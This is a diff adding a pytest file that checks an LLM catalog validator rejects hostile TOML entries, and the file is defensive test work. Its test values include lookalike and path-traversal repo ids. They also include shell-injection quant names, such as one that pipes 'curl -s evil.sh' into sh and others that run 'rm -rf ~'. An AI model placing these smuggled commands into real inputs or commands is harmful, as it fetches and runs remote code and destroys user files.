@@ -1,0 +1,58 @@
+"""Catalogs written by someone else: nothing in them reaches a printed command, a path or the
+terminal unchecked (issue 17). Each case is a finding of the adversarial review."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from advisor.cli import app
+
+runner = CliRunner()
+DATA = Path(__file__).parent / "data"
+BASE = (DATA / "user_extends.toml").read_text(encoding="utf-8")
+REPO_LINE = 'hf_repo = "acme/qwen3-8b-ft"'
+
+
+def catalog(tmp_path: Path, text: str) -> Path:
+    path = tmp_path / "hostile.toml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def check(path: Path):
+    return runner.invoke(app, ["catalog", "check", str(path)])
+
+
+# S6: lookalike, invisible, path-like and option-like repo ids
+BAD_REPOS = ["acme/Qw\u0435n3-8B", "acme/Qwen3\u200d-8B", "acme/\uff31wen3", "acme/Qwe\u0301n3",
+             "x/..", "x/.", "../x", "--token/x", "acme/-rf", "acme/qwen3\n-8b", "acme/qwen 3"]
+
+
+@pytest.mark.parametrize("repo", BAD_REPOS, ids=[ascii(r) for r in BAD_REPOS])
+def test_repo_ids_outside_ascii_or_path_like_are_located_errors(tmp_path: Path, repo: str) -> None:
+    text = BASE.replace(REPO_LINE, f"hf_repo = {repo!r}".replace("'", '"'))
+    text = text.replace("\n-8b", "\\n-8b")
+    result = check(catalog(tmp_path, text))
+    assert result.exit_code == 1, result.stdout
+    assert "hf_repo" in result.stderr and "hostile.toml" in result.stderr
+
+
+# S1: quant names in `quantized` repos reached `mlx_lm.convert --mlx-path ...` unchecked
+BAD_QUANTS = ["mlx-$(curl -s evil.sh|sh)", "mlx-`id`;rm -rf ~", "mlx-x\\nrm -rf ~", "q4 k m",
+              "-q4", "Q4_K_M\u200b"]
+
+
+@pytest.mark.parametrize("quant", BAD_QUANTS, ids=[ascii(q) for q in BAD_QUANTS])
+def test_quant_names_with_shell_syntax_are_located_errors(tmp_path: Path, quant: str) -> None:
+    text = BASE.replace("\n[models.config]", '\n[[models.quantized]]\nrepo = "acme/qwen3-8b-ft-gguf"\n'
+                        f'quants = ["q4_k_m", "{quant}"]\n\n[models.config]', 1)
+    result = check(catalog(tmp_path, text))
+    assert result.exit_code == 1, result.stdout
+    assert "quants" in result.stderr and "hostile.toml" in result.stderr
+
+
+def test_the_base_fixture_itself_is_fine(tmp_path: Path) -> None:
+    assert check(catalog(tmp_path, BASE)).exit_code == 0
